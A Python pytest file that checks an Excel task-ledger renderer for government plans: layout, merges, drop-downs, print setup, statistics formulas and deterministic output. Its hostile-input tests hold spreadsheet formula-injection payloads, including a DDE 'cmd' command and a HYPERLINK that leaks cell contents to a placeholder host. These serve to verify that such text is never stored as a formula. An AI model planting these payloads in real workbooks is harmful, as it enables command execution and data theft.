"""The task ledger .xlsx: rows, merges, drop-down, colours, print setup, formulas, safety, bytes."""

from __future__ import annotations

import datetime as dt
import math
import zipfile

import openpyxl
import pytest

from cascade.ledger_layout import (
    FIRST_ROW,
    HEADER_ROW,
    HEADERS,
    KEY_HEADER,
    LEDGER_SHEET,
    STATS_SHEET,
    STATUSES,
)
from cascade.measures import ledger_entries
from cascade.model import Measure, Plan, Section, Task
from cascade.render.xlsx import render_ledger

KEY_COL = len(HEADERS) + 1


@pytest.fixture(scope="module")
def kaiping_xlsx(seed_plans, tmp_path_factory):
    """The Kaiping ledger, rendered once for the module."""
    path = tmp_path_factory.mktemp("ledger") / "kaiping.xlsx"
    render_ledger(seed_plans["kaiping"], path)
    return path


def _rows(ws):
    """Values of the measure rows."""
    return list(ws.iter_rows(min_row=FIRST_ROW, values_only=True))


def _merged(ws, col: int) -> dict[int, int]:
    """First row → last row of every merged range in a column."""
    return {r.min_row: r.max_row for r in ws.merged_cells.ranges
            if r.min_col == r.max_col == col}


def test_kaiping_has_its_64_measures_in_source_order(seed_plans, kaiping_xlsx):
    plan = seed_plans["kaiping"]
    ws = openpyxl.load_workbook(kaiping_xlsx)[LEDGER_SHEET]
    assert [c.value for c in ws[HEADER_ROW]][: len(HEADERS) + 1] == [*HEADERS, KEY_HEADER]
    assert ws.cell(1, 1).value == plan.title + "任务台账"
    rows = _rows(ws)
    assert len(rows) == 64
    measures = plan.measures()
    assert [r[KEY_COL - 1] for r in rows] == [m.id for m in measures]
    assert [r[0] for r in rows] == list(range(1, 65))
    assert [r[3] for r in rows] == [m.label + m.text for m in measures]
    assert [r[3][:4] for r in rows[:2]] == ["(1)始", "(2)加"]
    first = rows[0]
    assert first[5] == measures[0].deadline_text  # the plan's words
    # A date then 持续推进: a milestone, the date until it passes, then 持续推进.
    assert first[6] == '=IF($J$2<=DATE(2024,12,31),DATE(2024,12,31),"持续推进")'
    assert ws.cell(FIRST_ROW, 7).number_format == "yyyy-mm-dd"
    recurring = next(i for i, m in enumerate(measures) if m.deadline_text.startswith("每年"))
    assert "YEAR(" in rows[recurring][6]  # the next date of the series, as of the as-of cell
    ends = [r[6] for r in rows if isinstance(r[6], dt.datetime)]
    assert ends and all(r[6] is None or isinstance(r[6], (str, dt.datetime)) for r in rows)


def test_each_task_cell_is_merged_over_exactly_its_measures(seed_plans, kaiping_xlsx):
    """Merged over its measures, cut only where a printed page ends (the label starts again)."""
    plan = seed_plans["kaiping"]
    ws = openpyxl.load_workbook(kaiping_xlsx)[LEDGER_SHEET]
    breaks = [b.id for b in ws.row_breaks.brk]
    assert breaks, "a 64-measure ledger prints on several pages"
    keys = [r[KEY_COL - 1] for r in _rows(ws)]
    for col, groups in ((3, [t.id for t in plan.tasks()]), (2, [s.id for s in plan.sections])):
        merged = _merged(ws, col)
        expected = {}
        for group in groups:
            rows = [FIRST_ROW + i for i, k in enumerate(keys) if k.startswith(group + ".")]
            if col == 3:
                rows = [FIRST_ROW + i for i, k in enumerate(keys) if k.rsplit(".m", 1)[0] == group]
            assert rows == list(range(rows[0], rows[-1] + 1))
            start = rows[0]
            for b in [*[b for b in breaks if rows[0] <= b < rows[-1]], rows[-1]]:
                if b > start:
                    expected[start] = b
                label = ws.cell(start, col).value
                assert label and label == ws.cell(rows[0], col).value  # each piece is labelled
                start = b + 1
        assert merged == expected
    task = plan.task("1.2")
    assert ws.cell(FIRST_ROW + 2, 3).value == task.number + task.title
    for row in range(FIRST_ROW + 2, FIRST_ROW + 8):  # borders on every cell of the merge
        assert ws.cell(row, 3).border.left.style == "thin"
        assert ws.cell(row, 3).border.right.style == "thin"


def test_dropdown_colours_print_setup_and_key_column(kaiping_xlsx):
    ws = openpyxl.load_workbook(kaiping_xlsx)[LEDGER_SHEET]
    (dv,) = ws.data_validations.dataValidation
    assert dv.type == "list" and dv.formula1 == '"' + ",".join(STATUSES) + '"'
    assert str(dv.sqref) == "H4:H67" and len(dv.formula1) < 255
    rules = [rule for cf in ws.conditional_formatting for rule in cf.rules]
    assert len(rules) == 2 and not any("TODAY()" in rule.formula[0] for rule in rules)
    assert {str(cf.sqref) for cf in ws.conditional_formatting} == {"A4:A67 D4:J67"}
    red, amber = sorted(rules, key=lambda r: r.priority)
    assert "$G4<$J$2" in red.formula[0] and '$H4<>"已完成"' in red.formula[0]
    assert "$G4<=$J$2+30" in amber.formula[0]
    assert ws.freeze_panes == "A4"
    assert ws.print_title_rows == "$3:$3"
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert ws.auto_filter.ref == "A3:K67"
    assert "&P" in ws.oddFooter.center.text
    assert ws.page_margins.footer <= 0.3 and ws.page_margins.bottom >= 0.8
    key = ws.column_dimensions["K"]
    assert key.hidden and ws.protection.sheet
    assert ws.cell(FIRST_ROW, KEY_COL).protection.locked
    assert not ws.cell(FIRST_ROW, 9).protection.locked  # 进度情况 stays editable
    assert not ws.protection.autoFilter and not ws.protection.insertRows
    heights = [ws.row_dimensions[r].height for r in range(FIRST_ROW, FIRST_ROW + 64)]
    assert all(h and h >= 20 for h in heights)
    width = ws.column_dimensions["D"].width
    for i, height in enumerate(heights):  # a Chinese character is about 2 width units
        lines = math.ceil(len(ws.cell(FIRST_ROW + i, 4).value) * 2 / width)
        assert height >= lines * 10.5 * 1.2, i


def test_stats_are_live_formulas_with_a_chart(kaiping_xlsx):
    wb = openpyxl.load_workbook(kaiping_xlsx)
    ws = wb[STATS_SHEET]
    cells = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(1, ws.max_row + 1)}
    for status in STATUSES:
        assert cells[status] == (f"=SUMPRODUCT((LEN('任务台账'!$K$4:$K$67)>0)"
                                 f"*('任务台账'!$H$4:$H$67=\"{status}\"))")
    assert "SUMPRODUCT" in cells["市司法局"] and "FIND" in cells["市司法局"]
    assert "'任务台账'!$J$2" in cells["逾期（按统计截至日期）"]
    months = [ws.cell(r, 1).value for r in range(1, ws.max_row + 1)
              if isinstance(ws.cell(r, 1).value, dt.datetime)]
    assert months == sorted(months) and dt.datetime(2024, 6, 1) in months
    assert all(str(ws.cell(_row_of(ws, m), c).value).startswith(("=SUMPRODUCT(", "=B"))
               for m in [*months, "其他月份", "无具体日期"] for c in range(2, 6))  # none blank
    assert len(ws._charts) == 1
    with zipfile.ZipFile(kaiping_xlsx) as zf:
        assert "xl/charts/chart1.xml" in zf.namelist()


def _row_of(ws, value) -> int:
    """The row whose first cell holds `value`."""
    return next(r for r in range(1, ws.max_row + 1) if ws.cell(r, 1).value == value)


def test_stats_count_what_libreoffice_computes(kaiping_xlsx, tmp_path, soffice_convert):
    """The formulas evaluate (LibreOffice recalculates on load): 64 measures, all unfilled."""
    saved = soffice_convert(kaiping_xlsx, "xlsx:Calc MS Excel 2007 XML", tmp_path / "out")
    ws = openpyxl.load_workbook(saved, data_only=True)[STATS_SHEET]
    values = {ws.cell(r, 1).value: ws.cell(r, 2).value for r in range(1, ws.max_row + 1)}
    assert values["合计"] == 64 and values["未填写"] == 64 and values["已完成"] == 0
    assert values["市司法局"] == sum("市司法局" in m for m in _units_column(kaiping_xlsx))


def _units_column(path):
    """The 责任单位 of every row, split."""
    ws = openpyxl.load_workbook(path)[LEDGER_SHEET]
    return [r[4].split("、") for r in _rows(ws)]


def test_same_plan_gives_byte_identical_files_dated_from_the_plan(seed_plans, kaiping_xlsx, tmp_path):
    again = render_ledger(seed_plans["kaiping"], tmp_path / "again.xlsx")
    assert again.read_bytes() == kaiping_xlsx.read_bytes()
    with zipfile.ZipFile(again) as zf:
        assert {info.date_time for info in zf.infolist()} == {(2024, 2, 9, 0, 0, 0)}
        core = zf.read("docProps/core.xml").decode()
    assert core.count(">2024-02-09T00:00:00Z<") == 2  # created and modified: the plan's date


@pytest.mark.parametrize("name", ["guangdong", "suizhou"])
def test_plans_without_attachment_get_every_leaf_task(seed_plans, tmp_path, name):
    plan = seed_plans[name]
    path = render_ledger(plan, tmp_path / f"{name}.xlsx")
    ws = openpyxl.load_workbook(path)[LEDGER_SHEET]
    keys = [r[KEY_COL - 1] for r in _rows(ws)]
    tasks = [k.rsplit(".m", 1)[0] for k in keys]
    assert set(tasks) == {t.id for t in plan.leaf_tasks()}
    assert [k for k in keys] == [e.measure.id for e in ledger_entries(plan)]
    assert all(ws.cell(FIRST_ROW + i, 5).value for i in range(len(keys)))  # units everywhere


def _hostile_plan() -> Plan:
    """A plan whose texts look like formulas, error codes and control characters."""
    evil = '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")'
    measures = [
        Measure(id="1.1.m1", label="", text=evil, units=["@SUM(A1)"], deadline_text="-1+2"),
        Measure(id="1.1.m2", label="(2)", text="带控制字符\x07的文字\x00。", units=["+市司法局"],
                deadline_text="#N/A"),
    ]
    task = Task(id="1.1", number="", title="=1+1", measures=measures)
    return Plan(id="x", title="测试方案", sections=[Section(id="1", number="", title="=cmd|' /C calc'!A0",
                                                          tasks=[task])])


def test_document_text_never_becomes_a_formula(tmp_path):
    path = render_ledger(_hostile_plan(), tmp_path / "hostile.xlsx")
    ws = openpyxl.load_workbook(path)[LEDGER_SHEET]
    first = ws.cell(FIRST_ROW, 4)
    assert first.value.endswith('=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")')
    assert first.data_type == "s"
    for row in (FIRST_ROW, FIRST_ROW + 1):
        for col in range(1, len(HEADERS) + 1):
            cell = ws.cell(row, col)
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@#":
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                assert cell.quotePrefix, cell.coordinate
    assert ws.cell(FIRST_ROW, 2).value.startswith("=cmd")
    assert ws.cell(FIRST_ROW + 1, 6).value == "#N/A"
    assert ws.cell(FIRST_ROW + 1, 4).value == "(2)带控制字符的文字。"
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere in the ledger sheet


def test_a_measure_starting_with_hyperlink_is_stored_as_a_string(tmp_path):
    plan = _hostile_plan()
    plan.sections[0].tasks[0].measures[0].label = ""
    path = tmp_path / "h.xlsx"
    from cascade.render.xlsx import build_ledger
    from cascade.render.xlsx_cells import save_deterministic, set_text

    wb = build_ledger(plan)
    cell = wb[LEDGER_SHEET].cell(FIRST_ROW, 4)
    set_text(cell, plan.measures()[0].text)  # the bare text, as a cell would start with it
    save_deterministic(wb, path, dt.datetime(2024, 1, 1))
    back = openpyxl.load_workbook(path)[LEDGER_SHEET].cell(FIRST_ROW, 4)
    assert back.value.startswith("=HYPERLINK(") and back.data_type == "s"


def test_ledger_converts_to_pdf_with_every_measure_label(seed_plans, kaiping_xlsx, tmp_path, to_pdf):
    from pypdf import PdfReader

    reader = PdfReader(to_pdf(kaiping_xlsx, tmp_path))
    text = "".join(page.extract_text() for page in reader.pages).replace(" ", "").replace("\n", "")
    missing = [m.label for m in seed_plans["kaiping"].measures() if m.label not in text]
    assert missing == []
    first = reader.pages[0]
    assert first.mediabox.width > first.mediabox.height  # landscape


def test_cli_renders_a_ledger_from_a_source_and_from_a_ledger(seed_paths, tmp_path):
    from click.testing import CliRunner

    from cascade.cli import main

    out = tmp_path / "开平台账.xlsx"
    result = CliRunner().invoke(main, ["render", str(seed_paths["kaiping"]), "--xlsx", str(out)])
    assert result.exit_code == 0 and "已写出任务台账" in result.output
    again = tmp_path / "again.xlsx"
    result = CliRunner().invoke(main, ["render", str(out), "--xlsx", str(again)])  # ledger as source
    assert result.exit_code == 0, result.output
    rows = _rows(openpyxl.load_workbook(again)[LEDGER_SHEET])
    assert [r[3] for r in rows] == [r[3] for r in _rows(openpyxl.load_workbook(out)[LEDGER_SHEET])]


def test_every_printed_page_names_the_tasks_of_its_rows(seed_plans, kaiping_xlsx, to_pdf, tmp_path):
    """On the PDF: each page that prints a measure also prints its 重点任务 and 具体任务 labels."""
    import re
    import subprocess

    plan = seed_plans["kaiping"]
    pdf = to_pdf(kaiping_xlsx, tmp_path)
    pages = int(re.search(r"Pages:\s+(\d+)", subprocess.run(
        ["pdfinfo", str(pdf)], capture_output=True, text=True).stdout).group(1))
    labels = {}
    for section in plan.sections:
        for task in section.walk():
            for m in task.measures:
                labels[m.label] = (f"{section.number}{section.title}"[:4], f"{task.number}{task.title}"[:4])
    seen = set()
    for page in range(1, pages + 1):
        text = re.sub(r"\s+", "", subprocess.run(
            ["pdftotext", "-f", str(page), "-l", str(page), str(pdf), "-"],
            capture_output=True, text=True).stdout)
        if text.startswith("任务台账统计"):
            break  # the 统计 sheet follows the ledger
        for label, (section, task) in labels.items():
            if label in text:
                seen.add(label)
                assert section in text and task in text, (page, label)
    assert len(seen) >= 60  # nearly every measure was found on its page
